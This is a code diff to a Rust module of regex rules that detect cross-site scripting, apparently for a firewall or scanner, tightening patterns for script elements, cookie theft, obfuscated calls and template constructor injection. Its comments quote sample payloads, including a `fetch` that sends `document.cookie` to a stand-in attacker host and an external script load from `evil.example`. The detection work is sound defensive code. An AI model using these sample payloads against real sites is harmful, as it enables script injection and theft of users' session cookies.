@@ -23,7 +23,7 @@ macro_rules! html {
     (@EQ) => { r"(?:[\s\x00]|%20)*(?:=|%(?:25)?3d)(?:[\s\x00]|%20)*" };
     (@QUOTE) => { r#"(?:["'`]|%2[27])"# };
     // What attackers call first.
-    (@CALL) => { r"(?:(?:alert|confirm|prompt|eval|fetch|import|atob|print|settimeout|setinterval|\$\.get|open)\s*[(`]|(?:document|window|location|self|top|parent|globalthis)\s*(?:[\[=]|\.\w))" };
+    (@CALL) => { r"(?:(?:alert|confirm|prompt|eval|fetch|import|atob|settimeout|setinterval|\$\.get)\s*[(`]|(?:document|window|self|top|parent|globalthis)\s*\[|(?:window|document)\.\w|location\s*=|location\.(?:href|hash|replace|assign|search)\b)" };
     // A letter of a scheme that is written as a character reference, and another reference.
     (@REF) => { r"|&#(?:x0*\w\w|0*\d\d\d?);?)(?:[\s\x00]|%0[09ad]|&(?:tab|newline);|&#(?:x0*\w|0*\d\d?);?)*" };
     (@$literal:literal) => { $literal };
@@ -35,7 +35,7 @@ pub(super) const RULES: &[(&str, &str)] = &[
     // An element of code: `<script>alert(1)</script>`.
     (
         "cross_site_scripting.script_code",
-        html![LT r"(?:\w+:)?script(?:[\s/][^>%]*)?(?:>|%(?:25)?3e)(?:\s*[^\s<]*[(`=;\[]|\s*(?:var|let|const|throw|import|new)\s|[^<]*[(`=;\[][^<]*" LT r"/script)"],
+        html![LT r"(?:\w+:)?script(?:[\s/][^>%]*)?(?:>|%(?:25)?3e)(?:[^\s<:`][^\s<]*[(`=;\[]|\s+[\w/][^\s<]*[(`=;\[]|\s*(?:var|let|const|throw|import|new)\s|[^<]*[(`=;\[][^<]*" LT r"/script)"],
     ),
     // An element of code from elsewhere: `<script src=//evil.example/x.js>`.
     ("cross_site_scripting.script_source", html![LT r"(?:\w+:)?script" GAP ATTRIBUTES r"(?:src|href)" EQ r"\S"]),
@@ -82,20 +82,20 @@ pub(super) const RULES: &[(&str, &str)] = &[
     // What scripts are stolen for: `fetch('//evil.example/?'+document.cookie)`.
     (
         "cross_site_scripting.cookie_theft",
-        html![r"(?:(?:alert|confirm|prompt|eval)\s*[(`]\s*(?:\w+\.)?|//\S*['\x22`]\s*\+\s*(?:\w+\()?(?:\w+\.)?|//\S*\$\{(?:\w+\()?)(?:document\.(?:cookie|domain)|localstorage\b)"],
+        html![r"(?:(?:alert|confirm|prompt|eval)\s*[(`]\s*(?:\w+\.)?|//\S*['\x22`]\s*[+,]\s*(?:\w+\()?(?:\w+\.)?|//\S*\$\{(?:\w+\()?)(?:document\.(?:cookie|domain)|localstorage\b)"],
     ),
     // Calls that hide their name: `top['al'+'ert'](1)`, `eval(atob('…'))`.
     (
         "cross_site_scripting.hidden_call",
         html![
             r#"(?:\b(?:top|self|window|parent|frames|globalthis|this|document)\s*\[\s*(?:['"`](?:alert|eval|confirm|prompt)['"`]|['"`]\w*['"`]\s*\+\s*['"`]|['"`]\\[xu]|/\w+/\.source|atob|\d+\s*\.\.tostring)"#
-            r"|\b(?:eval|execscript|alert|document\.write(?:ln)?|settimeout|function)\s*[(`]\s*(?:atob|unescape|string\.fromcharcode|decodeuri\w*|location\.|name\b|window\.name)"
+            r"|\b(?:eval|execscript|alert|document\.write(?:ln)?|settimeout|function)\s*[(`]\s*(?:atob|unescape|string\.fromcharcode|decodeuri\w*|location\.)|\beval\s*\(\s*(?:window\.)?name\b|settimeout`"
             r"|\(!\[\]\+\[\]\)\[|\bonerror\s*=\s*(?:alert|eval|confirm|prompt)\b|\bimport\(\s*['\x22`]//|\]\.(?:map|find|foreach|some|every|filter)\(\s*(?:alert|eval|confirm|prompt)\s*\))"
         ],
     ),
     // Code by way of a constructor: `{{constructor.constructor('alert(1)')()}}`.
     (
         "cross_site_scripting.constructor_call",
-        html![r#"constructor(?:['"`]\s*\])?\s*(?:\(\s*['"`]|\.\s*constructor\b|\[\s*['"`]constructor)"#],
+        html![r#"(?:[.\['"`]|\{\{\s*)constructor(?:['"`]\s*\])?\s*(?:\(\s*['"`]|`\w+(?:\\x|\()|\.\s*constructor\b|\[\s*['"`]constructor)"#],
     ),
 ];
